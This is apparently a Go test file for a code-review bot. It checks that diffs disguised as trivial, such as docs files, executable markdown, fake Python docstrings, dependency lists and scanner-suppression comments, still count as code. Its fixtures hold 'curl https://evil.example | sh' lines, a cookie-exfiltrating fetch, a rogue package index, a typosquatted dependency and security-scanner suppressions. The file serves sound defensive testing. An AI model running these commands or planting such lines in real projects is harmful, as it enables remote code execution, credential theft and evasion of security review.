package reviewer

import (
	"strings"
	"testing"

	"github.com/reviewerbot/reviewer/reviewer/diff"
)

// withMode rewrites the modes of a diff written by added or modified.
func withMode(d, mode string) string {
	d = strings.Replace(d, "new file mode 100644", "new file mode "+mode, 1)
	return strings.Replace(d, "index 1111111..2222222 100644", "index 1111111..2222222 "+mode, 1)
}

// TestAssignTierHostile: changes a hostile author shapes to look trivial that hold code.
func TestAssignTierHostile(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		diff string
	}{
		// A docs/ segment makes a path documentation, but only prose is documentation:
		// a Dockerfile, a Vue component or a script of a language the comment detector
		// does not know is code wherever it lives.
		{name: "dockerfile under docs", diff: added("docs/Dockerfile", 2, lines("RUN curl https://evil.example/%d | sh"))},
		{name: "component under a docs segment", diff: modified("web/src/docs/Login.vue", []string{"<script>"}, nil, []string{"fetch('https://evil.example/?c=' + document.cookie)"})},
		{name: "script without extension under docs", diff: added("docs/build", 2, lines("curl https://evil.example/%d | sh"))},
		// An executable file runs whatever its name says: ./setup.md with a shebang is a
		// shell script.
		{name: "new executable markdown", diff: withMode(added("tools/setup.md", 2, lines("curl https://evil.example/%d | sh")), "100755")},
		{name: "executable binary under docs", diff: "diff --git a/docs/tool b/docs/tool\nnew file mode 100755\nindex 0000000..2222222\nBinary files /dev/null and b/docs/tool differ\n"},
		{name: "edit of an executable text file", diff: withMode(modified("bin/run.txt", []string{"#!/bin/sh"}, nil, []string{"curl https://evil.example | sh"}), "100755")},
		// PHP 8 attributes start with '#', PHP's line comment: #[Route(...)] exposes a
		// method at a URL.
		{name: "php attribute added", diff: modified("src/Controller/DebugController.php", []string{"final class DebugController", "{"},
			nil, []string{"    #[Route('/internal/exec', methods: ['GET'])]"})},
		// A triple-quoted string is a docstring only as a statement of its own after a
		// def or class: here it is the value of cmd.
		{name: "python string posing as a docstring", diff: modified("app/deploy.py", []string{"cmd = ("},
			nil, []string{`"""`, "curl https://evil.example | sh", `"""`})},
		{name: "python string argument posing as a docstring", diff: modified("app/deploy.py", []string{"subprocess.run("},
			nil, []string{`"""curl https://evil.example | sh"""`})},
		// Dependency lists fetch code that runs at install: a line of one is code, though
		// its name ends in .txt, which is otherwise prose.
		{name: "requirements.txt", diff: modified("requirements.txt", []string{"requests==2.32.3"}, nil, []string{"--extra-index-url https://evil.example/simple"})},
		{name: "requirements of a stage", diff: modified("requirements/dev.txt", []string{"pytest==8.0"}, nil, []string{"reqeusts==1.0"})},
		{name: "pre-commit hooks", diff: modified(".pre-commit-config.yaml", []string{"repos:"}, nil, []string{"- repo: https://evil.example/hooks"})},
		// A comment that silences a security scanner changes what CI checks, as //nolint
		// and eslint-disable do.
		{name: "gosec suppression", diff: modified("pkg/run.go", []string{"func run(name string) error {"}, nil, []string{"\t// #nosec G204 -- the name is checked"})},
		{name: "bandit suppression", diff: modified("app/run.py", []string{"def run(cmd):"}, nil, []string{"    # nosec B602"})},
		{name: "semgrep suppression", diff: modified("app/run.py", []string{"def run(cmd):"}, nil, []string{"    # nosemgrep: python.lang.security"})},
		{name: "sonar suppression", diff: modified("src/Run.java", []string{"class Run {"}, nil, []string{"    // NOSONAR"})},
		{name: "codeql suppression", diff: modified("src/db.js", []string{"function q(s) {"}, nil, []string{"  // codeql[js/sql-injection]"})},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			files, err := diff.Parse([]byte(tt.diff))
			if err != nil {
				t.Fatal(err)
			}
			if got := assignTier(files, files, "", TierAuto, TierOptions{}); got.Level == TierTrivial {
				t.Errorf("tier %s (%q): the model never sees this code", got.Level, got.Reasons)
			}
		})
	}
}
